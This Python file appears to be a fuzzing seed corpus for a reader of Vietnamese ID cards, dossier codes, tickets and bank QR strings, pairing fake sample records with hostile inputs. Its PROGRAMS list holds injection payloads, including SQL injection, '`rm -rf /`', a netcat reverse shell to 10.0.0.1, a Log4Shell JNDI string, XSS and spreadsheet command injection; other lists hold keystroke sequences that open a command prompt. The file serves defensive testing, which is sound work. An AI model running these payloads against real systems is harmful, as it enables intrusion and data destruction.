"""What a hostile or broken code may hold: where mutations start from. Nobody's data: the province
part 000 of an ID number does not exist."""

CARD = "000202000001||Nguyễn Văn An|15052002|Nam|Xã Quảng Phú, Đắk Lắk|20042021"
OLD_CARD = "000190000002|000000002|Trần Thị Bé|01011990|Nữ|12 Đường Hoa, Phường Mẫu|09012022"
DOSSIER = "H56.14-240823-0001"
TICKET = "MC1-000000000000000000000000000"
BANK = "00020101021138540010A00000072701240006970423011000999999990208QRIBFTTA53037045802VN6304CBB4"

HONEST = (
    CARD,
    OLD_CARD,
    f"{OLD_CARD}|000000003|Trần Văn Cha|Lê Thị Mẹ|",
    DOSSIER,
    "000.00.06.H56-231027-0361",
    "Q5-261123-0007",
    TICKET,
    "MCB1-000000000000000000000000000",
    BANK,
    "GD4000000000001|54726E|01/01/1990|2|4D|01 - 001|C|01/01/2026|-|-|4|-|0000|$",
    "vneid://abc",
    f"https://tracuu.example.vn/tra-cuu.aspx?mahs={DOSSIER}",
)

CONTROL = (
    "\x0f",  # Ctrl+O
    "\x1b[2J\x1b]0;owned\x07",
    "\x11r\rcmd\r",  # Ctrl+Q, then a command
    "A012\x09\x09\x0d",
    "".join(map(chr, range(32))),
    "\x7f\x80\x9b31m",
    "\x1d01\x1d",  # the GS of GS1
)
ADF = (  # what "advanced data formatting" makes some readers press
    "^[F2]^[ENTER]",
    "{Ctrl+O}{Win+R}cmd{Enter}",
    "\\x02\\x03~d013",
    "]Q1]C1]E0" + DOSSIER,
    "]Q3" * 400,
    "\x02" + DOSSIER + "\x03",
)
DIRECTIONS = (
    "\u202e1000-328042-41.65H",
    "H56.14-240823-\u202d0001\u202c",
    "\u2066" + DOSSIER + "\u2069",
    "\u200b".join(DOSSIER),
    "א" * 50 + DOSSIER,
)
LETTERS = (
    DOSSIER.replace("H", "Н"),  # Cyrillic
    DOSSIER.replace("0", "０"),  # full width
    DOSSIER.replace("-", "–"),
    DOSSIER.replace("3", "٣"),  # Arabic
    CARD.replace("|", "｜"),
    CARD.replace("0", "𝟎"),
    "ſ56.14-240823-0001",
    "MC1-" + "Ο" * 26,
)
MARKS = ("a" + "\u0316\u0301" * 2047, "\u0301" * 4096, "é" * 4096, "ﷺ" * 4096, "Ꮳ" * 1000)
ADDRESSES = (
    f"https://a.vn/?u=https%3A%2F%2Fb.vn%2F%3Fu%3Dhttps%253A%252F%252Fc.vn%252F%253Fm%253D{DOSSIER}",
    "https://" * 500 + "a.vn/?m=" + DOSSIER,
    "https://a.vn/?" + "&".join(f"m={DOSSIER}" for _ in range(60)),
    "https://a.vn/?" + "&" * 4000,
    "https://a.vn/?m=%" + "%" * 3000,
    "https://a.vn/?m=%FF%FE%00" + DOSSIER,
    "https://a.vn/?a=" + "%CC%96%CC%81" * 330,
    f"https://user:pass@a.vn:99999/?m={DOSSIER}#{TICKET}",
    f"javascript:alert(1)?m={DOSSIER}",
    f"file:///etc/passwd?m={DOSSIER}",
    f"data:text/html,<script>location='{DOSSIER}'</script>",
    "https://[::1/?m=",
)
PROGRAMS = (
    "'; DROP TABLE ticket; --",
    f"{DOSSIER}' OR '1'='1",
    f'{DOSSIER}" UNION SELECT text FROM sealed --',
    "$(reboot)",
    "`rm -rf /`",
    "| nc 10.0.0.1 4444 -e /bin/sh",
    "../../../etc/passwd",
    "\\\\server\\share",
    "<img src=x onerror=alert(1)>",
    "%s%n%x%p%999999d",
    "{0.__class__.__init__.__globals__}",
    "{}" * 500,
    "${jndi:ldap://a.vn/x}",
    "=cmd|' /C calc'!A0",
    "qrc:/../../main.qml",
    "import QtQuick; Item { Component.onCompleted: Qt.quit() }",
)
NUL = ("\0", "\0" * 4096, f"\0{DOSSIER}\0", DOSSIER.replace("-", "\0-"), "\ufeff" * 100 + DOSSIER)
OVERLONG = (
    "A" * 5000,
    "|" * 5000,
    "000000000000" + "|" * 4000,
    "0" * 4096,
    "vneid." * 680,
    CARD * 60,
)

BROKEN = (  # bytes that are no UTF-8
    b"\xff\xfe",
    b"\xc0\x80",
    b"\xed\xa0\x80",  # a lone surrogate
    b"\xf4\x90\x80\x80",
    b"\xe1\xba",
    b"\x80" * 4096,
    DOSSIER.encode("utf-16"),
    CARD.encode("cp1258", "replace"),
    CARD.encode()[:-1] + b"\xe1",
    b"\xef\xbb\xbf" + DOSSIER.encode(),
)

HOSTILE = (
    *CONTROL, *ADF, *DIRECTIONS, *LETTERS, *MARKS, *ADDRESSES, *PROGRAMS, *NUL, *OVERLONG,
)  # fmt: skip

SEEDS: tuple[bytes, ...] = (*(text.encode() for text in (*HONEST, *HOSTILE)), *BROKEN)
